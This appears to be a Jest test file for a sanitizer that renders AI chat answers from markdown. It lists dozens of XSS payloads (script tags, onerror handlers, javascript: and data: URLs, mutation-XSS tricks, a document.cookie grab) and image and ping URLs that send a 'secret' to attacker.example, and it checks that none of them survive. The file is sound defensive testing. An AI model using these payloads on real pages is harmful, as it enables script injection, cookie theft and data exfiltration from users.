/**
 * The markdown → sanitize pipeline: formatting survives, nothing that can run does.
 */
// eslint-disable-next-line import/no-extraneous-dependencies -- ships with jest; typed, unlike its globals (no @types/jest).
import { beforeAll, describe, expect, it } from '@jest/globals';

import { allowImagesFrom, whenSanitizerReady } from '../sanitize';

import { renderMarkdown } from '../markdown';

function render( text: string ): HTMLElement {
	const root = document.createElement( 'div' );
	root.appendChild( renderMarkdown( text ) );
	return root;
}

/**
 * Everything that must never appear in a rendered answer.
 * @param root
 */
function assertInert( root: HTMLElement ) {
	expect(
		root.querySelectorAll(
			'script, iframe, frame, object, embed, svg, math, style, link, meta, form, button, textarea, select, base'
		)
	).toHaveLength( 0 );
	for ( const element of Array.from( root.querySelectorAll( '*' ) ) ) {
		for ( const attribute of Array.from( element.attributes ) ) {
			expect( attribute.name ).not.toMatch( /^on/i );
			expect( attribute.name ).not.toBe( 'style' );
			expect( attribute.name ).not.toBe( 'srcdoc' );
			expect( attribute.name ).not.toBe( 'formaction' );
			if (
				[ 'href', 'src', 'action', 'xlink:href' ].includes(
					attribute.name
				)
			) {
				expect( attribute.value.replace( /\s/g, '' ) ).not.toMatch(
					/^(javascript|data|vbscript|blob):/i
				);
			}
		}
	}
	for ( const input of Array.from( root.querySelectorAll( 'input' ) ) ) {
		expect( input.type ).toBe( 'checkbox' );
		expect( input.disabled ).toBe( true );
	}
}

const XSS: Array< [ string, string ] > = [
	[ 'script tag', '<script>alert(1)</script>' ],
	[ 'script in a paragraph', 'Hello <script>alert(1)</script> world' ],
	[ 'img onerror', '<img src=x onerror=alert(1)>' ],
	[ 'markdown image breakout', '![img](x" onerror="alert(1))' ],
	[ 'javascript: markdown link', '[x](javascript:alert(1))' ],
	[ 'javascript: with entities', '[x](jav&#x09;ascript:alert(1))' ],
	[ 'JavaScript: upper case', '<a href="JaVaScRiPt:alert(1)">x</a>' ],
	[ 'javascript: with a tab', '<a href="java\tscript:alert(1)">x</a>' ],
	[ 'javascript: html link', '<a href="javascript:alert(1)">click me</a>' ],
	[ 'data: link', '[d](data:text/html,<script>alert(1)</script>)' ],
	[ 'data: html link', '<a href="data:text/html;base64,PHNjcmlwdD4=">d</a>' ],
	[ 'data: image', '![i](data:image/svg+xml;base64,PHN2Zz4=)' ],
	[ 'data: html image', '<img src="data:image/png;base64,AAAA">' ],
	[ 'vbscript link', '<a href="vbscript:msgbox(1)">v</a>' ],
	[ 'svg onload', '<svg onload=alert(1)>' ],
	[ 'svg with script', '<svg><script>alert(1)</script></svg>' ],
	[
		'math',
		'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	],
	[ 'iframe', '<iframe src=javascript:alert(1)>' ],
	[ 'iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>' ],
	[ 'object', '<object data="javascript:alert(1)"></object>' ],
	[ 'embed', '<embed src="javascript:alert(1)">' ],
	[ 'details ontoggle', '<details open ontoggle=alert(1)>' ],
	[ 'attribute breakout', '"><script>alert(document.cookie)</script>' ],
	[ 'style tag', '<style>body{display:none}</style>' ],
	[ 'style attribute', '<p style="position:fixed;inset:0">cover</p>' ],
	[ 'form', '<form action="javascript:alert(1)"><button>go</button></form>' ],
	[ 'input', '<input autofocus onfocus=alert(1)>' ],
	[
		'meta refresh',
		'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	],
	[ 'base', '<base href="javascript:alert(1)//">' ],
	[ 'link import', '<link rel=import href="data:text/html,x">' ],
	[
		'noscript mXSS',
		'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	],
	[ 'comment mXSS', '<!--<img src="--><img src=x onerror=alert(1)//">' ],
	[ 'template', '<template><script>alert(1)</script></template>' ],
	[ 'unterminated fence', '```html\n<script>alert("fence")</script>' ],
];

// jsdom has no HTML Sanitizer API: answers go through DOMPurify, loaded on demand.
beforeAll( () => whenSanitizerReady() );

describe( 'renderMarkdown', () => {
	it.each( XSS )( 'leaves nothing that can run: %s', ( _name, text ) => {
		const root = render( text );
		assertInert( root );
	} );

	it( 'renders the whole emulator corpus at once without anything active', () => {
		const root = render( XSS.map( ( [ , text ] ) => text ).join( '\n\n' ) );
		assertInert( root );
	} );

	it( 'keeps the formatting of an answer', () => {
		const root = render(
			[
				'## A heading',
				'',
				'Some **bold**, _em_ and `code`.',
				'',
				'- one',
				'- two',
				'',
				'1. first',
				'2. second',
				'',
				'```js',
				'const a = 1 < 2;',
				'```',
				'',
				'| A | B |',
				'| --- | --- |',
				'| 1 | 2 |',
				'',
				'> quoted',
			].join( '\n' )
		);
		expect( root.querySelector( 'h2' )?.textContent ).toBe( 'A heading' );
		expect( root.querySelector( 'strong' )?.textContent ).toBe( 'bold' );
		expect( root.querySelector( 'em' )?.textContent ).toBe( 'em' );
		expect( root.querySelectorAll( 'ul > li' ) ).toHaveLength( 2 );
		expect( root.querySelectorAll( 'ol > li' ) ).toHaveLength( 2 );
		expect( root.querySelector( 'pre > code' )?.textContent ).toBe(
			'const a = 1 < 2;\n'
		);
		expect( root.querySelectorAll( 'table th' ) ).toHaveLength( 2 );
		expect( root.querySelectorAll( 'table td' ) ).toHaveLength( 2 );
		expect( root.querySelector( 'blockquote' ) ).not.toBeNull();
	} );

	it( 'shows the code of an answer that stops inside a fence as code', () => {
		const root = render( 'Look:\n\n```python\nprint("hi")\nfor i in' );
		expect( root.querySelector( 'p' )?.textContent ).toBe( 'Look:' );
		expect( root.querySelector( 'pre > code' )?.textContent ).toContain(
			'print("hi")\nfor i in'
		);
	} );

	it( 'opens safe links in a new tab without the opener or a follow', () => {
		const root = render(
			'[web](https://example.org/a?b=1) [mail](mailto:a@example.org) [here](/page#x)'
		);
		const links = Array.from( root.querySelectorAll( 'a' ) );
		expect( links.map( ( a ) => a.getAttribute( 'href' ) ) ).toEqual( [
			'https://example.org/a?b=1',
			'mailto:a@example.org',
			'/page#x',
		] );
		for ( const link of links ) {
			expect( link.target ).toBe( '_blank' );
			expect( link.rel.split( ' ' ) ).toEqual(
				expect.arrayContaining( [ 'noopener', 'nofollow' ] )
			);
		}
	} );

	it( 'keeps the text of a dangerous link but not its address', () => {
		const root = render( '[click me](javascript:alert(1))' );
		expect( root.textContent ).toContain( 'click me' );
		expect( root.querySelector( 'a[href]' ) ).toBeNull();
	} );

	it( 'keeps absolute web images and drops data: and relative ones', () => {
		allowImagesFrom( [ 'https://example.org' ] );
		const root = render(
			'![cat](https://example.org/cat.png) ![x](data:image/png;base64,AAAA) ![r](x.png) <img src="//example.org/a.png">'
		);
		const images = Array.from( root.querySelectorAll( 'img' ) );
		expect( images.map( ( i ) => i.getAttribute( 'src' ) ) ).toEqual( [
			'https://example.org/cat.png',
		] );
	} );

	it( 'shows an image from an origin not allowed as a link, requesting nothing', () => {
		allowImagesFrom( [ 'https://dify.example', 'https://site.example' ] );
		const root = render(
			'![chat](https://attacker.example/?q=secret) ![ok](https://dify.example/files/a.png) ![](https://site.example:443/b.png) ![port](https://dify.example:8443/c.png) <img src="HTTPS://ATTACKER.example/d.png" alt="raw">'
		);
		expect(
			Array.from( root.querySelectorAll( 'img' ) ).map( ( i ) =>
				i.getAttribute( 'src' )
			)
		).toEqual( [
			'https://dify.example/files/a.png',
			'https://site.example:443/b.png',
		] );
		const links = Array.from( root.querySelectorAll( 'a' ) );
		expect(
			links.map( ( a ) => [
				a.textContent,
				a.getAttribute( 'href' ),
				a.getAttribute( 'rel' ),
			] )
		).toEqual( [
			[
				'Image: chat',
				'https://attacker.example/?q=secret',
				'nofollow noopener noreferrer',
			],
			[
				'Image: port',
				'https://dify.example:8443/c.png',
				'nofollow noopener noreferrer',
			],
			[
				'Image: raw',
				'HTTPS://ATTACKER.example/d.png',
				'nofollow noopener noreferrer',
			],
		] );
		// Nothing that fetches on its own: no image, source set, preload or ping to the stranger.
		expect( root.innerHTML ).not.toMatch(
			/<(img|source|picture|link)[^>]*attacker|srcset|ping=|style=/i
		);
	} );

	it( 'shows every image as a link while no origin is allowed', () => {
		allowImagesFrom( [] );
		const root = render( '![cat](https://example.org/cat.png)' );
		expect( root.querySelector( 'img' ) ).toBeNull();
		expect( root.querySelector( 'a' )?.textContent ).toBe( 'Image: cat' );
	} );

	it( 'keeps no source set, picture, preload, ping or style that could fetch', () => {
		allowImagesFrom( [ 'https://dify.example' ] );
		const root = render(
			'<picture><source srcset="https://attacker.example/1.png"><img src="https://dify.example/a.png" srcset="https://attacker.example/2.png 2x"></picture>' +
				'<a href="https://x.example/" ping="https://attacker.example/ping">p</a>' +
				'<link rel="prefetch" href="https://attacker.example/pre">' +
				'<p style="background:url(https://attacker.example/bg.png)">s</p>' +
				'<svg><image href="https://attacker.example/svg.png"/></svg>' +
				'<video poster="https://attacker.example/poster.png"></video>' +
				'<input type="image" src="https://attacker.example/input.png">'
		);
		expect( root.innerHTML ).not.toContain( 'attacker' );
		expect( root.querySelector( 'img' )?.getAttribute( 'src' ) ).toBe(
			'https://dify.example/a.png'
		);
	} );

	it( 'shows html inside code as text', () => {
		const root = render( 'Use `<script>` and `<b>`.' );
		expect( root.querySelectorAll( 'script, b' ) ).toHaveLength( 0 );
		expect( root.textContent ).toContain( '<script>' );
	} );
} );

describe( 'wide blocks', () => {
	it( 'code blocks and tables, which scroll sideways, take keyboard focus', () => {
		const root = render(
			'```\ncode\n```\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n<p tabindex="5">x</p>'
		);
		expect( root.querySelector( 'pre' )?.getAttribute( 'tabindex' ) ).toBe(
			'0'
		);
		expect(
			root.querySelector( 'table' )?.getAttribute( 'tabindex' )
		).toBe( '0' );
		// Nothing else gets a tab stop, and a model cannot set one.
		expect( root.querySelectorAll( '[tabindex]' ) ).toHaveLength( 2 );
	} );
} );
